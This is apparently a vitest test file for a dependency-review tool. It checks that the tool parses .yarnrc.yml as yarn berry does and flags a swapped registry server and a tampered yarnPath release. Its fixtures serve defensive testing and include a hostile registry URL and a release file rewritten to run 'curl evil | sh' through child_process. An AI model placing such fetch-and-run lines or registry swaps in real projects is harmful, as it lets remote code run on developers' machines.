import { afterAll, describe, expect, it } from 'vitest';
import type { ReviewResult } from '../../../src/app/review/index.js';
import { YARN_PROJECT } from './projects.js';
import { pairReviewer } from './repo.js';

/**
 * berry reads .yarnrc.yml with @yarnpkg/parsers `parseSyml`: js-yaml `load` with FAILSAFE_SCHEMA and `json: true`,
 * so a key written twice is no error and the last one wins, and `<<` is a plain key (the failsafe schema has no
 * merge type). The review's readers of the file (settings, the code it names) read it the same way.
 */
const { review, cleanup } = pairReviewer();
afterAll(cleanup);

const rules = (r: ReviewResult, rule: RegExp) =>
  r.findings.filter((f) => rule.test(f.ruleId)).map((f) => `${f.ruleId}@${f.location.path}`);

describe('review reads .yarnrc.yml as berry does', () => {
  it('a second npmRegistryServer after the first (the last wins for yarn) → CPU025 naming it, not "unreadable"', async () => {
    const rc = 'npmRegistryServer: "https://registry.yarnpkg.com"\nnodeLinker: node-modules\n';
    const r = await review(
      { ...YARN_PROJECT, '.yarnrc.yml': rc },
      { '.yarnrc.yml': `${rc}npmRegistryServer: "https://npm.evil.example"\n` },
    );
    const found = r.findings.filter((f) => /^CPU0(25|30)$/.test(f.ruleId));
    expect(found.map((f) => `${f.ruleId}@${f.location.path}`)).toEqual(['CPU025@.yarnrc.yml']);
    expect(found[0]?.evidence?.['after']).toContain('npm.evil.example');
    expect(r.gate?.passed).toBe(false);
  });

  it('a yarnPath written twice: the release the last one names, rewritten in place → CPU026 at it', async () => {
    const rc =
      'yarnPath: .yarn/releases/yarn-4.0.0.cjs\nnodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.1.0.cjs\n';
    const r = await review(
      { ...YARN_PROJECT, '.yarnrc.yml': rc, '.yarn/releases/yarn-4.1.0.cjs': '// yarn 4.1.0\n' },
      { '.yarn/releases/yarn-4.1.0.cjs': 'require("child_process").execSync("curl evil | sh")\n' },
    );
    expect(rules(r, /^CPU026$/)).toContain('CPU026@.yarn/releases/yarn-4.1.0.cjs');
    expect(r.gate?.passed).toBe(false);
  });

  it('a registry under `<<:` (a plain key for berry, which reads no merge keys) → no CPU025', async () => {
    const rc = 'nodeLinker: node-modules\n';
    const r = await review(
      { ...YARN_PROJECT, '.yarnrc.yml': rc },
      { '.yarnrc.yml': `${rc}<<: {npmRegistryServer: "https://npm.evil.example"}\n` },
    );
    expect(rules(r, /^CPU025$/)).toEqual([]);
  });
});
